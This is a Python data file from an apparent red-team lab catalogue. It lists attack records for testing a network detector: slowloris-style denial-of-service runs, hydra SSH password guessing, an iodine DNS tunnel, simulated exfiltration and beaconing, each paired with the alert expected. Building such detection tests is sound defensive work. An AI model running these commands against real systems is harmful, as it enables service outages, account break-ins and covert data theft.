"""Slow requests, password guessing, tunnels, leaks: what needs few packets. Data only."""

from loomidi_lab.redteam.catalogue.places import ATTACKER, INSIDE, LOGIN, WEB, forged
from loomidi_lab.redteam.records import NOTED, Attack, Command, Expect

_SLOW = ("slow_requests",)
_LEAK = ("exfiltration",)  # told only: the shield hears what comes in, and what leaves is not cut by its source


def _slow(*words: str, path: str = "") -> Command:
    pace = ("-c", "200", "-r", "50", "-p", "3", "-l", "20")
    return ("slowhttptest", *words, *pace, "-u", f"http://{WEB}/{path}")


def _hydra(*words: str) -> Command:
    return ("hydra", "-I", "-l", "nobody-here", "-P", "passwords", *words, f"ssh://{LOGIN}")


QUIET = (
    Attack(
        "slowloris", "T1499.002", "slow", (_slow("-H", "-i", "1", "-x", "24"),), (ATTACKER,),
        Expect(_SLOW, within_s=60), seconds=24, says="slow headers over 200 connections", needs=("slowhttptest",),
    ),
    Attack(
        "slow-body", "T1499.002", "slow", (_slow("-B", "-i", "1", "-s", "8192", "-x", "10", path="form.cgi"),),
        (ATTACKER,), Expect(_SLOW, within_s=60), seconds=24, says="slow body over 200 connections",
        needs=("slowhttptest",),
    ),
    Attack(
        "slow-read", "T1499.002", "slow",
        (_slow("-X", "-w", "10", "-y", "20", "-n", "1", "-z", "8", path="large"),), (ATTACKER,),
        Expect(_SLOW, within_s=60), seconds=24, says="slow reading over 200 connections",
        needs=("slowhttptest",),
    ),
    Attack(
        "guessing", "T1110.001", "guessing", (_hydra("-t", "16"),), (ATTACKER,),
        Expect(("brute_force",), within_s=10), seconds=12, says="hydra at a real sshd, 16 at once", servers=("sshd",),
        needs=("hydra", "sshd"), short=True,
    ),
    Attack(
        "guessing-slow", "T1110.001", "slow", (_hydra("-t", "1", "-c", "1", "-w", "1"),), (ATTACKER,),
        Expect(("brute_force",), within_s=60), seconds=55, says="hydra, a guess every two seconds", servers=("sshd",),
        needs=("hydra", "sshd"),
    ),
    Attack(
        "guessing-shared-address", "T1110.001", "guessing", (_hydra("-t", "16"),), (ATTACKER,),
        Expect(("brute_force",), within_s=10), seconds=12, says="hydra from an address that honest users share",
        servers=("sshd",), needs=("hydra", "sshd"), shares_address=True,
    ),
    Attack(
        "tunnel-iodine", "T1572", "leaving",
        (
            ("iodine", "-f", "-r", "-P", "secret", WEB, "t.example"),
            ("sh", "-c", "sleep 5; exec ping -q -i 0.02 -s 300 -c 1000 10.99.0.1"),
        ),
        (ATTACKER,), Expect(_LEAK, act=NOTED, within_s=30), seconds=18, says="iodine through the real name server",
        servers=("iodined",), needs=("iodine", "iodined", "dnsmasq"),
    ),
    Attack(
        "tunnel-questions", "T1071.004", "leaving",
        (forged("questions", source=ATTACKER, target=WEB, seconds=8, pps=25),), (ATTACKER,),
        Expect(_LEAK, act=NOTED, within_s=15), seconds=12, says="names that carry data, as dnscat2 asks",
        needs=("dnsmasq",), short=True,
    ),
    Attack(
        "leak-bulk", "T1048", "leaving",
        (("iperf3", "-c", WEB, "-B", INSIDE, "-b", "60M", "-t", "5", "--connect-timeout", "3000"),), (INSIDE,),
        Expect(_LEAK, act=NOTED, within_s=15), seconds=9, says="35 MB from an inside host", servers=("iperf3",),
        needs=("iperf3",),
    ),
    Attack(
        "leak-slow", "T1048", "slow",
        (("iperf3", "-c", WEB, "-B", INSIDE, "-b", "2M", "-t", "40", "--connect-timeout", "3000"),), (INSIDE,),
        Expect(_LEAK, act=NOTED, within_s=60), seconds=44, says="2 Mbit/s from an inside host", servers=("iperf3",),
        needs=("iperf3",),
    ),
    Attack(
        "beacon", "T1071", "slow", (forged("posts", source=INSIDE, target=WEB, every_s=9, seconds=56),), (INSIDE,),
        Expect(("beaconing",), act=NOTED, within_s=60), seconds=58, says="a small request every 9 s",
    ),
)  # fmt: skip
